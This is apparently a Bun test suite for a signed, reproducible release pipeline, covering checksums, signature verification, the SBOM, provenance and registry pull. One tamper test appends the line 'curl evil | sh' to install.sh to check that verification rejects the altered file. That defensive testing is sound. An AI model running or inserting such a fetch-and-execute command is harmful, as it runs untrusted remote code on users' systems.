import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from "bun:test";
import { generateKeyPairSync } from "node:crypto";
import {
  appendFileSync,
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { z } from "zod";
import { artifactFor, detectPlatform, findRelease, readReleaseKey } from "../../internal/kit/release/index.ts";
import { signFolder } from "../../scripts/lib/release-folder.ts";
import { signerOf } from "../../scripts/lib/release-signing.ts";
import { BUN, ROOT } from "../../scripts/lib/spawn.ts";
import { goProgram } from "../bed/go-program.ts";
import { type Registry, registryMissing, startRegistry } from "../bed/registry.ts";
import { commandsOf, filledIn, type Words } from "../lib/doc-blocks.ts";
import { serveReleases } from "../lib/release-folder.ts";

setDefaultTimeout(240_000);
const oras = goProgram("oras");
const missing = (oras === null || registryMissing() !== null) && process.env.CI !== "true";
const TARGET = process.arch === "x64" ? "linux-x64" : "linux-arm64";
const VERSION = "9.8.7-rc.1+test";

/** Here because node_modules is hard-linked; hidden, so that no run of tests finds the tests in a copy of the tree. */
const COPIES = `${ROOT}dist/.release-test`;
let folder: string;
let made: string;
const at = (...parts: string[]) => join(folder, ...parts);
const text = (path: string) => readFileSync(path, "utf8");
const program = () => join(made, `runner_${VERSION}_${TARGET.replace("-", "_")}`);

/** Of runs that were killed. */
function sweepLeft(): void {
  for (const name of readdirSync(COPIES)) {
    if (!existsSync(`/proc/${name.split("-")[0]}`)) rmSync(join(COPIES, name), { recursive: true, force: true });
  }
}

/** A checkout of what lies here now, committed at a fixed time: like a clone, at a path of its own. */
function checkout(name: string): string {
  const path = at(name);
  mkdirSync(path, { recursive: true });
  const run = (argv: string[], stdin?: Buffer, cwd = path) => {
    const env = { ...process.env, GIT_AUTHOR_DATE: "1700000000 +0000", GIT_COMMITTER_DATE: "1700000000 +0000" };
    const done = Bun.spawnSync(argv, { cwd, env, ...(stdin ? { stdin } : {}) });
    if (!done.success) throw new Error(`${argv.join(" ")}: ${done.stderr}`);
    return done.stdout;
  };
  const files = run(["git", "ls-files", "-z", "--cached", "--others", "--exclude-standard"], undefined, ROOT);
  const tar = ["tar", "-c", "--null", "-T", "-", "--ignore-failed-read"];
  run(["tar", "-x"], Buffer.from(run(tar, Buffer.from(files), ROOT)));
  run(["git", "init", "-q"]);
  run(["git", "add", "-A"]);
  run(["git", "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-q", "-m", "release"]);
  run(["cp", "-al", `${ROOT}node_modules`, "node_modules"]);
  // Older than the mark of the installation: there is nothing to install.
  utimesSync(join(path, "bun.lock"), 1, 1);
  return path;
}

function release(cwd: string, argv: readonly string[], env: Record<string, string> = {}) {
  const done = Bun.spawnSync([BUN, "scripts/run.ts", "release", "--target", TARGET, "--version", VERSION, ...argv], {
    cwd,
    env: { ...process.env, ...env },
  });
  if (!done.success) throw new Error(`${done.stdout}${done.stderr}`);
  return done.stderr.toString();
}

const page = commandsOf("docs/releases.md", "release");

/** Pastes the block of docs/releases.md that holds `what`; what it printed. */
function paste(what: string, words: Words, cwd: string, env: Record<string, string> = {}): string {
  const block = page.find((one) => one.includes(what)) ?? `echo no block with ${what}; false`;
  const done = Bun.spawnSync(["sh", "-euc", filledIn(block, words)], { cwd, env: { ...process.env, ...env } });
  if (!done.success) throw new Error(`${block}${done.stdout}${done.stderr}`);
  return done.stdout.toString();
}

beforeAll(() => {
  mkdirSync(COPIES, { recursive: true });
  sweepLeft();
  folder = mkdtempSync(`${COPIES}/${process.pid}-`);
  const { privateKey } = generateKeyPairSync("ed25519");
  writeFileSync(at("release.key"), privateKey.export({ format: "pem", type: "pkcs8" }), { mode: 0o600 });
  made = at("releases", VERSION);
  release(checkout("one"), ["--key", at("release.key"), "--out", made]);
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

test("a release holds what it promises, and its program is not cut", () => {
  const files = readdirSync(made).sort();
  expect(files).toEqual(
    [
      "SHA256SUMS",
      "SHA256SUMS.sig",
      "SHA256SUMS.sshsig",
      "install.sh",
      "provenance.json",
      "release.json",
      "release.pub",
      `runner_${VERSION}_${TARGET.replace("-", "_")}`,
      "sbom.cdx.json",
    ].sort(),
  );
  expect(statSync(program()).mode & 0o777).toBe(0o755);
  const said = Bun.spawnSync([program(), "version", "--json"]).stdout.toString();
  const key = readReleaseKey(text(join(made, "release.pub")), "release.pub");
  const { commit } = JSON.parse(text(join(made, "release.json")));
  expect(commit).toMatch(/^[0-9a-f]{40}$/);
  expect(JSON.parse(said)).toEqual({
    version: VERSION,
    commit,
    target: TARGET,
    release_key: key.ok ? key.value.fingerprint : "unreadable",
  });
});

test("two checkouts at different paths, time zones and times make the same release, byte for byte", () => {
  const again = at("elsewhere", VERSION);
  const words = {
    "npm run release --": `npm run release -- --target ${TARGET}`,
    "/srv/releases": at("elsewhere"),
    "release.key": at("release.key"),
    "0.2.0": VERSION,
  };
  paste("--latest", words, checkout("deeper/two"), { TZ: "Asia/Tokyo", LC_ALL: "C" });
  expect(readdirSync(again).sort()).toEqual(readdirSync(made).sort());
  for (const file of readdirSync(made)) {
    expect([file, readFileSync(join(again, file)).equals(readFileSync(join(made, file)))]).toEqual([file, true]);
  }
});

describe("the commands of docs/releases.md", () => {
  const checks = page.filter((body) => /openssl pkeyutl|ssh-keygen -Y/.test(body));
  const inCopy = (body: string, change: (copy: string) => void = () => {}) => {
    const copy = at("copy");
    rmSync(copy, { recursive: true, force: true });
    mkdirSync(copy);
    for (const file of readdirSync(made)) copyFileSync(join(made, file), join(copy, file));
    change(copy);
    return Bun.spawnSync(["sh", "-euc", body], { cwd: copy }).exitCode;
  };

  test("accept the release as it was made", () => {
    expect(checks.length).toBe(2);
    for (const body of checks) expect(inCopy(body)).toBe(0);
  });

  test("make a key, put a release in front, tell its fingerprint and verify it from a folder and a web server", async () => {
    mkdirSync(at("new"));
    paste("openssl genpkey", {}, at("new"));
    expect(text(at("new/release.key"))).toStartWith("-----BEGIN PRIVATE KEY-----");

    const words = { "/srv/releases": at("releases"), "release.key": at("release.key"), "0.2.0": VERSION };
    expect(paste("--promote", words, at("one"))).toContain(`version ${VERSION}\n`);

    const key = readReleaseKey(text(join(made, "release.pub")), "release.pub");
    expect(`sha256:${paste("openssl pkey ", {}, made).split(" ")[0]}`).toBe(key.ok ? key.value.fingerprint : "");

    const host = await serveReleases(at("releases"));
    try {
      mkdirSync(at("bin"));
      symlinkSync(program(), at("bin/runner"));
      const places = { "/media/usb/release": made, "https://releases.example.com": host.url, "0.2.0": VERSION };
      const [block = ""] = page.filter((one) => one.includes("runner release verify"));
      // The web server lives in this process, so nothing may wait for the shell with it.
      const child = Bun.spawn(["sh", "-euc", filledIn(block, places)], {
        cwd: made,
        env: { HOME: folder, PATH: `${at("bin")}:${process.env.PATH}` },
      });
      const said = await new Response(child.stdout).text();
      expect([await child.exited, said.match(/files are what was signed/g)?.length]).toEqual([0, 2]);
    } finally {
      await host.end();
    }
  });

  test("refuse it with a line more in its list", () => {
    for (const body of checks)
      expect(inCopy(body, (copy) => appendFileSync(join(copy, "SHA256SUMS"), "\n"))).not.toBe(0);
  });

  test("refuse it with another program in it", () => {
    const [openssl = ""] = checks;
    const name = program().slice(made.length + 1);
    expect(inCopy(openssl, (copy) => appendFileSync(join(copy, name), "x"))).not.toBe(0);
  });
});

test("the runner finds, verifies and knows its own program in it, from a web server", async () => {
  const host = await serveReleases(at("releases"));
  try {
    const key = readReleaseKey(text(join(made, "release.pub")), "release.pub");
    if (!key.ok) throw key.error;
    const found = await findRelease({ base: host.url, version: VERSION, key: key.value });
    if (!found.ok) throw found.error;
    const fitting = artifactFor(found.value, { ...detectPlatform(), avx2: true });
    expect(fitting.ok && join(made, fitting.value.file)).toBe(program());
  } finally {
    await host.end();
  }
});

describe("`runner release verify`, by the key that the program was made with", () => {
  const verify = (place: string, ...more: string[]) => {
    const done = Bun.spawnSync([program(), "release", "verify", place, ...more], { env: { HOME: folder } });
    return { code: done.exitCode, said: done.stdout.toString(), error: done.stderr.toString() };
  };

  test("reads every file, from a folder and from a web server", async () => {
    const { code, said } = verify(made, "--json");
    expect(code).toBe(0);
    expect(JSON.parse(said)).toMatchObject({ version: VERSION, files: 6, program: program().slice(made.length + 1) });
    const host = await serveReleases(at("releases"));
    try {
      const child = Bun.spawn([program(), "release", "verify", host.url, VERSION], { env: { HOME: folder } });
      expect([await child.exited, await new Response(child.stdout).text()]).toEqual([
        0,
        expect.stringContaining("6 files are what was signed"),
      ]);
    } finally {
      await host.end();
    }
  });

  test("refuses a changed file by its name, another maker's release, and a version that is not there", () => {
    const changed = at("changed");
    mkdirSync(changed);
    for (const file of readdirSync(made)) copyFileSync(join(made, file), join(changed, file));
    appendFileSync(join(changed, "install.sh"), "curl evil | sh\n");
    expect(verify(changed)).toMatchObject({ code: 4, error: expect.stringContaining("install.sh is not the file") });
    const { privateKey } = generateKeyPairSync("ed25519");
    signFolder(changed, signerOf(privateKey));
    expect(verify(changed)).toMatchObject({ code: 4, error: expect.stringContaining("not one of the trusted key") });
    expect(verify(made, "1.0.0")).toMatchObject({ code: 2, error: expect.stringContaining("no version 1.0.0") });
  });
});

test("the bill of materials names every package in the program with version, licence, address and checksum", () => {
  const license = z.union([z.object({ license: z.object({ id: z.string() }) }), z.object({ expression: z.string() })]);
  const component = z.object({
    type: z.enum(["library", "platform", "application"]),
    "bom-ref": z.string().min(1),
    name: z.string().min(1),
    version: z.string().regex(/^\d/),
    purl: z.string().regex(/^pkg:npm\/(%40[^/@]+\/)?[^/@]+@[^@]+$/),
    licenses: z.array(license).min(1),
    hashes: z.array(z.object({ alg: z.enum(["SHA-256", "SHA-512"]), content: z.string().regex(/^[0-9a-f]+$/) })).min(1),
  });
  const bom = z
    .object({
      bomFormat: z.literal("CycloneDX"),
      specVersion: z.literal("1.6"),
      serialNumber: z.string().regex(/^urn:uuid:[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}$/),
      version: z.literal(1),
      metadata: z.object({ timestamp: z.iso.datetime(), component: z.object({ version: z.literal(VERSION) }) }),
      components: z.array(component),
    })
    .parse(JSON.parse(text(join(made, "sbom.cdx.json"))));
  const names = bom.components.map(({ name }) => name);
  const { dependencies, devDependencies } = JSON.parse(text(`${ROOT}package.json`));
  expect(Object.keys(dependencies).filter((name) => !names.includes(name))).toEqual([]);
  expect(Object.keys(devDependencies).filter((name) => names.includes(name))).toEqual([]);
  expect(names).toContain(`@oven/bun-${TARGET.replace("arm64", "aarch64")}`);
  expect(new Set(bom.components.map((one) => one["bom-ref"])).size).toBe(names.length);
  expect(text(join(made, "sbom.cdx.json"))).not.toContain(folder);
});

test("the provenance names the program, the commit, the runtime and the lock file, and no path of the builder", () => {
  const statement = JSON.parse(text(join(made, "provenance.json")));
  const { artifacts, commit } = JSON.parse(text(join(made, "release.json")));
  expect([statement._type, statement.predicateType]).toEqual([
    "https://in-toto.io/Statement/v1",
    "https://slsa.dev/provenance/v1",
  ]);
  expect(statement.subject).toEqual([{ name: artifacts[0].file, digest: { sha256: artifacts[0].sha256 } }]);
  const { buildDefinition, runDetails } = statement.predicate;
  expect(buildDefinition.externalParameters).toMatchObject({ version: VERSION, targets: [TARGET] });
  expect(buildDefinition.internalParameters.uncommittedChanges).toBe(false);
  const parts = JSON.stringify(buildDefinition.resolvedDependencies);
  for (const part of [commit, "bun.lock", "build-config.yaml", "pkg:npm/%40oven/bun-"]) expect(parts).toContain(part);
  expect(runDetails.builder.id).toMatch(/^urn:|^https:/);
  expect(JSON.stringify(statement)).not.toContain(folder);
});

describe.skipIf(missing)("a release in a registry", () => {
  let registry: Registry;
  beforeAll(async () => {
    registry = await startRegistry();
  });
  afterAll(() => registry.end());

  test("is pulled with plain oras as the same bytes, and says what it is", () => {
    const reference = `${registry.host}/runner/release:9.8.7-rc.1`;
    mkdirSync(at("programs"));
    symlinkSync(oras ?? "oras", at("programs/oras"));
    const words = {
      "npm run release --": `npm run release -- --target ${TARGET} --plain-http --out ${at("pushed")}`,
      "release.key": at("release.key"),
      "registry.example.com/runner/release:0.2.0": reference,
      "--version 0.2.0": `--version ${VERSION}`,
      "oras pull": "oras pull --plain-http",
      "--output release": `--output ${at("pulled")}`,
    };
    const path = `${at("programs")}:${process.env.PATH}`;
    paste("--push", words, at("one"), { ORAS: oras ?? "", PATH: path });
    const run = (...words: string[]) => {
      const done = Bun.spawnSync([oras ?? "", ...words], { env: { HOME: folder, PATH: process.env.PATH ?? "" } });
      if (!done.success) throw new Error(done.stderr.toString());
      return done.stdout.toString();
    };
    expect(readdirSync(at("pulled")).sort()).toEqual(readdirSync(made).sort());
    for (const file of readdirSync(made)) {
      expect([file, readFileSync(at("pulled", file)).equals(readFileSync(join(made, file)))]).toEqual([file, true]);
    }
    const manifest = JSON.parse(run("manifest", "fetch", "--plain-http", reference));
    expect(manifest.artifactType).toBe("application/vnd.runner.release.v1");
  });
});
